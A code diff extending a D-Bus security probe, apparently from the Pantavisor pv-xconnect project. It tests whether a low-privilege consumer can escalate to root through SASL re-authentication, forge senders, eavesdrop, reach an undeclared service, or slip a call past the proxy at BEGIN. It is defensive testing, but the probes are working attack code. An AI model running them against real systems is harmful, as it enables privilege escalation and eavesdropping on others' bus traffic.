@@ -1,13 +1,25 @@
-// dbus-attacker: what a consumer holding a low role (args.json: role `nobody`) can try against the
-// provider's bus through the socket pv-xconnect injects at /run/dbus/system_bus_socket.
-// Run it against your own mesh to check that the mediation holds. Three attempts:
+// dbus-attacker: what a consumer holding a low role (args.json: role `nobody`, interface
+// org.pantavisor.Example) can try against the provider's bus through the socket pv-xconnect injects
+// at /run/dbus/system_bus_socket. Run it against your own mesh to check that the mediation holds.
 //   (a) own org.pantavisor.Example (RequestName, replacing the owner): the provider's policy lets
 //       only root own it;
 //   (b) re-authenticate as root on one connection: after a first authentication (rejected, or
 //       accepted and then cancelled), send `AUTH EXTERNAL 30` (uid 0) and ask the bus which uid it
 //       now sees. pv-xconnect master rewrites only the first AUTH, so this makes a client root;
 //   (c) send with a forged sender: a signal to ourselves claiming to come from
-//       org.pantavisor.Example; the daemon must overwrite the sender with our unique name.
+//       org.pantavisor.Example; the daemon must overwrite the sender with our unique name;
+//   (d) call org.pantavisor.Example.Private, a service we did not declare;
+//   (e) ListNames: does it reveal names we did not declare?
+//   (f) eavesdrop: AddMatch with eavesdrop=true (is a call made on another connection delivered
+//       to us?), then BecomeMonitor;
+//   (g) a call to org.pantavisor.Example.Private in the same write as the SASL BEGIN line (the
+//       CVE-2018-6560 class: a proxy that takes those bytes for the end of the handshake lets them
+//       through unfiltered);
+//   (h) a malformed header, then an oversize message, each on its own connection: the connection
+//       must be closed, and a fresh connection must still work.
+// (c) to (f) use the connection (b) authenticated; under pv-xconnect master that is uid 0, which
+// is what the hole in (b) gives any role. Under the documented mesh, a refusal of (d) to (g) comes
+// from the mesh itself (sender org.pantavisor.xconnect), before the bus sees the call.
 // Prints one verdict line per attempt and a summary. Exit 0: every attempt refused; exit 1:
 // `VULNERABLE: ...`; exit 2: the bus could not be reached (nothing was tested).
 //
@@ -16,11 +28,11 @@
 //       the bus behind it, 30 s by default; --help)
 // Stop: SIGTERM or Ctrl-C ends the run between two steps, with no verdict: exit 0.
 //
-// Simplified: (b) and (c) speak SASL and D-Bus by hand on a plain socket (dbus-next's wire codec
-// encodes the messages), because dbus-next's own connection always runs an honest SASL exchange.
-import { connect, type Socket } from "node:net";
+// Simplified: (b) to (h) speak SASL and D-Bus by hand on a plain socket (./raw-bus.ts; dbus-next's
+// wire codec encodes the messages), because dbus-next's own connection always runs an honest SASL
+// exchange.
 import { DBusError, type MessageBus, NameFlag, RequestNameReply, sessionBus } from "dbus-next";
-import { marshall, unmarshall, type WireMessage } from "dbus-next/lib/message";
+import type { WireMessage } from "dbus-next/lib/message";
 import { parseCommandLine } from "../../shared/cli";
 import { log, reason } from "../../shared/log";
 import { devicePath, ROOT_ENV } from "../../shared/paths";
@@ -28,113 +40,23 @@ import { ROLE_ENV, roleLabel } from "../../shared/role";
 import { FatalError, runMain } from "../../shared/run";
 import { sleep, stopSignal, untilAborted } from "../../shared/shutdown";
 import { WAIT_OPTION, waitForPath, waitSeconds } from "../../shared/wait";
+import { BUS_CALL, DRIVER, ERROR, externalId, METHOD_CALL, METHOD_RETURN, RawBus, ROOT_CLAIM, SIGNAL, STEP_TIMEOUT_MS, Unreachable } from "./raw-bus";
 
 const SOCKET_PATH = "/run/dbus/system_bus_socket";
 const BUS_NAME = "org.pantavisor.Example";
-const ROOT_CLAIM = "30"; // SASL EXTERNAL for uid 0: the decimal digits, hex-encoded
-const STEP_TIMEOUT_MS = 3000;
-const [METHOD_CALL, , ERROR, SIGNAL] = [1, 2, 3, 4];
+const PRIVATE = { destination: "org.pantavisor.Example.Private", path: "/org/pantavisor/Example/Private", interface: "org.pantavisor.Example.Private", member: "GetInfo" };
+const ATTEMPTS = 8;
 
 interface Verdict {
   vulnerable: boolean;
   detail: string;
 }
 
-class Unreachable extends Error {}
-
-/** One connection spoken by hand: SASL lines first, then length-framed D-Bus messages. */
-class RawBus {
-  private buffer = Buffer.alloc(0);
-  private closed = false;
-  private wake: () => void = () => {};
-  private serial = 1;
-  uniqueName = "";
-
-  private constructor(private readonly socket: Socket) {
-    socket.on("data", (chunk: Buffer) => ((this.buffer = Buffer.concat([this.buffer, chunk])), this.wake()));
-    socket.on("close", () => ((this.closed = true), this.wake()));
-    socket.on("error", () => {}); // seen as "closed" by the reader
-  }
-
-  static open(path: string): Promise<RawBus> {
-    return new Promise((resolve, reject) => {
-      const socket = connect(path, () => {
-        socket.write("\0"); // the credentials byte that opens every D-Bus connection
-        resolve(new RawBus(socket));
-      });
-      socket.once("error", (error) => reject(new Unreachable(`cannot connect to ${path}: ${reason(error)}`)));
-    });
-  }
-
-  /** Sends one SASL command; resolves with the bus's one-line answer. */
-  async sasl(command: string): Promise<string> {
-    this.socket.write(`${command}\r\n`);
-    const line = await this.take(() => {
-      const end = this.buffer.indexOf("\r\n");
-      return end === -1 ? null : end + 2;
-    });
-    return line.toString("latin1").trim();
-  }
-
-  /** Ends SASL, says Hello, and learns our unique name. */
-  async begin(): Promise<void> {
-    this.socket.write("BEGIN\r\n");
-    this.uniqueName = String((await this.callBus("Hello")).body?.[0]);
-  }
-
-  async callBus(member: string, signature?: string, body?: unknown[]): Promise<WireMessage> {
-    const serial = this.send({ type: METHOD_CALL, path: "/org/freedesktop/DBus", interface: "org.freedesktop.DBus", destination: "org.freedesktop.DBus", member, signature, body });
-    const reply = await this.next((m) => m.replySerial === serial);
-    if (reply.type === ERROR) throw new Error(`${member}: ${reply.errorName}: ${String(reply.body?.[0])}`);
-    return reply;
-  }
-
-  send(message: Omit<WireMessage, "serial">): number {
-    const serial = this.serial++;
-    this.socket.write(marshall({ ...message, serial })[0]);
-    return serial;
-  }
-
-  /** The next message that matches, skipping others (NameAcquired and the like). */
-  async next(matches: (message: WireMessage) => boolean): Promise<WireMessage> {
-    for (;;) {
-      const frame = await this.take(() => {
-        if (this.buffer.length < 16) return null;
-        const le = this.buffer[0] === 0x6c; // 'l'
-        const fields = le ? this.buffer.readUInt32LE(12) : this.buffer.readUInt32BE(12);
-        const body = le ? this.buffer.readUInt32LE(4) : this.buffer.readUInt32BE(4);
-        const size = 16 + Math.ceil(fields / 8) * 8 + body;
-        return this.buffer.length >= size ? size : null;
-      });
-      const message = unmarshall(frame);
-      if (matches(message)) return message;
-    }
-  }
-
-  close(): void {
-    this.socket.destroy();
-  }
-
-  /** Waits until `size()` says how many buffered bytes make one unit, and removes them. */
-  private async take(size: () => number | null): Promise<Buffer> {
-    const deadline = Date.now() + STEP_TIMEOUT_MS;
-    for (let n = size(); n === null; n = size()) {
-      if (this.closed) throw new Error("the connection was closed");
-      if (Date.now() >= deadline) throw new Error(`no answer within ${STEP_TIMEOUT_MS} ms`);
-      await new Promise<void>((resolve) => {
-        const timer = setTimeout(resolve, deadline - Date.now());
-        this.wake = () => (clearTimeout(timer), resolve());
-      });
-    }
-    const n = size()!;
-    const unit = this.buffer.subarray(0, n);
-    this.buffer = this.buffer.subarray(n);
-    return unit;
-  }
-}
-
-function externalId(uid: number): string {
-  return Buffer.from(String(uid), "ascii").toString("hex");
+/** "<error name> from <sender>: <text>": the sender tells whether the mesh or the bus refused. */
+function describeError(reply: WireMessage): string {
+  const by = reply.sender === DRIVER ? "the bus" : reply.sender ?? "(no sender)";
+  const text = String(reply.body?.[0]);
+  return `${reply.errorName} from ${by}: ${text.length > 200 ? `${text.slice(0, 200)}...` : text}`;
 }
 
 /** Resolves once a bus answers SASL behind `path` (the injected socket may exist before the provider's bus does), false at `deadline`. */
@@ -210,6 +132,102 @@ async function tryForgedSender(bus: RawBus): Promise<Verdict> {
   }
 }
 
+/** (d) A call to the service nobody declared. */
+async function tryPrivate(bus: RawBus): Promise<Verdict> {
+  const reply = await bus.call(PRIVATE);
+  if (reply.type === METHOD_RETURN) return { vulnerable: true, detail: `${PRIVATE.destination} answered: ${String(reply.body?.[0])}` };
+  return { vulnerable: false, detail: describeError(reply) };
+}
+
+/** (e) Which names ListNames shows besides the bus, ourselves and the name we declared. */
+async function tryListNames(bus: RawBus): Promise<Verdict> {
+  const names = ((await bus.callBus("ListNames")).body?.[0] as string[]).sort();
+  const undeclared = names.filter((name) => name !== DRIVER && name !== BUS_NAME && name !== bus.uniqueName);
+  if (undeclared.length > 0) return { vulnerable: true, detail: `ListNames shows names we did not declare: ${undeclared.join(", ")}` };
+  return { vulnerable: false, detail: `ListNames shows only ${names.map((name) => (name === bus.uniqueName ? `${name} (ourselves)` : name)).join(", ")}` };
+}
+
+/**
+ * (f) An eavesdropping match rule: accepted, does it deliver another connection's call to
+ * org.pantavisor.Example (made on a second connection of ours)? Then BecomeMonitor, which ends
+ * what this connection can do.
+ */
+async function tryEavesdrop(bus: RawBus, path: string): Promise<Verdict> {
+  const outcome = (reply: WireMessage): string => (reply.type === ERROR ? `refused (${describeError(reply)})` : "accepted");
+  const match = await bus.call({ ...BUS_CALL, member: "AddMatch", signature: "s", body: ["type='method_call',eavesdrop=true"] });
+  let overheard = "";
+  if (match.type !== ERROR) {
+    const other = await RawBus.open(path);
+    try {
+      if ((await other.authenticate()) !== null) {
+        await other.begin();
+        await other.call({ destination: BUS_NAME, path: "/org/pantavisor/Example", interface: BUS_NAME, member: "GetInfo" });
+        const seen = await bus.next((m) => m.type === METHOD_CALL && m.sender === other.uniqueName).then(() => true, () => false);
+        overheard = seen ? ", and it delivered another connection's call" : ", but it delivered no other connection's call";
+      }
+    } finally {
+      other.close();
+    }
+  }
+  const monitor = await bus.call({ ...BUS_CALL, interface: "org.freedesktop.DBus.Monitoring", member: "BecomeMonitor", signature: "asu", body: [[], 0] });
+  const vulnerable = overheard.startsWith(", and") || monitor.type !== ERROR;
+  return { vulnerable, detail: `AddMatch eavesdrop=true ${outcome(match)}${overheard}; BecomeMonitor ${outcome(monitor)}` };
+}
+
+/** (g) BEGIN, Hello and a call to the undeclared service, all in one write. */
+async function tryCallPackedWithBegin(path: string): Promise<Verdict> {
+  const bus = await RawBus.open(path);
+  try {
+    const how = await bus.authenticate();
+    if (how === null) return { vulnerable: false, detail: "not tried: the bus rejected every authentication" };
+    const [serial] = await bus.begin({ type: METHOD_CALL, ...PRIVATE });
+    const reply = await bus.next((m) => m.replySerial === serial);
+    if (reply.type === METHOD_RETURN) return { vulnerable: true, detail: `authenticated ${how}; the packed call was answered: ${String(reply.body?.[0])}` };
+    return { vulnerable: false, detail: `authenticated ${how}; the packed call got ${describeError(reply)}` };
+  } catch (error) {
+    return { vulnerable: false, detail: `the connection ended: ${(error as Error).message}` };
+  } finally {
+    bus.close();
+  }
+}
+
+// (h) A header field of the wrong type (DESTINATION as a uint32), and a fixed header that
+// announces a 256 MiB body (the spec's limit is 128 MiB); serial 9 comes after Hello's.
+const MALFORMED = Buffer.from("6c01000100000000090000000800000006017500" + "00000000", "hex");
+const OVERSIZE = Buffer.from("6c0100010000001009000000" + "00000000", "hex");
+
+/** (h) Each bad message on a connection of its own must close it; then a fresh connection must still work. */
+async function tryBadMessages(path: string): Promise<Verdict> {
+  const results: string[] = [];
+  let vulnerable = false;
+  for (const [what, bytes] of [["malformed header", MALFORMED], ["oversize message (256 MiB announced)", OVERSIZE]] as const) {
+    const bus = await RawBus.open(path);
+    try {
+      if ((await bus.authenticate()) === null) return { vulnerable: false, detail: "not tried: the bus rejected every authentication" };
+      await bus.begin();
+      bus.write(bytes);
+      const closed = await bus.closedWithin(STEP_TIMEOUT_MS);
+      vulnerable ||= !closed;
+      results.push(`${what}: ${closed ? "connection closed" : `still open after ${STEP_TIMEOUT_MS} ms`}`);
+    } finally {
+      bus.close();
+    }
+  }
+  const fresh = await RawBus.open(path);
+  try {
+    await fresh.authenticate();
+    await fresh.begin();
+    const owner = String((await fresh.callBus("GetNameOwner", "s", [BUS_NAME])).body?.[0]);
+    results.push(`a fresh connection then found ${BUS_NAME} owned by ${owner}`);
+  } catch (error) {
+    vulnerable = true;
+    results.push(`a fresh connection then failed: ${(error as Error).message}`);
+  } finally {
+    fresh.close();
+  }
+  return { vulnerable, detail: results.join("; ") };
+}
+
 async function main(): Promise<number> {
   const { values } = parseCommandLine({
     name: "dbus-attacker",
@@ -245,14 +263,24 @@ async function main(): Promise<number> {
     report(`(a) own ${BUS_NAME}`, await tryOwnName(path));
     const reauth = await tryReauthAsRoot(path, role);
     report("(b) re-authenticate as uid 0", reauth);
-    if (reauth.bus === null) report("(c) forged sender", { vulnerable: false, detail: "not tried: no authenticated connection" });
-    else report("(c) forged sender", await tryForgedSender(reauth.bus));
+    const onReauth: [string, (bus: RawBus) => Promise<Verdict>][] = [
+      ["(c) forged sender", tryForgedSender],
+      [`(d) call ${PRIVATE.destination}`, tryPrivate],
+      ["(e) ListNames reveals undeclared names", tryListNames],
+      ["(f) eavesdrop (AddMatch eavesdrop=true, BecomeMonitor)", (bus) => tryEavesdrop(bus, path)],
+    ];
+    for (const [attempt, tryIt] of onReauth) {
+      if (reauth.bus === null) report(attempt, { vulnerable: false, detail: "not tried: no authenticated connection" });
+      else report(attempt, await tryIt(reauth.bus).catch((error: unknown) => ({ vulnerable: false, detail: `the connection ended: ${(error as Error).message}` })));
+    }
     reauth.bus?.close();
+    report("(g) call packed into the same write as BEGIN", await tryCallPackedWithBegin(path));
+    report("(h) malformed and oversize messages", await tryBadMessages(path));
   };
   try {
     // A signal ends the run between two steps; the connections still open close with the process.
     await Promise.race([attempts(), untilAborted(stopping)]);
-    if (stopping.aborted) return stopped(stopping, `after ${verdicts.length} of 3 attempts`);
+    if (stopping.aborted) return stopped(stopping, `after ${verdicts.length} of ${ATTEMPTS} attempts`);
   } catch (error) {
     if (error instanceof Unreachable) throw new FatalError(`${error.message}: nothing tested`, 2);
     throw error;
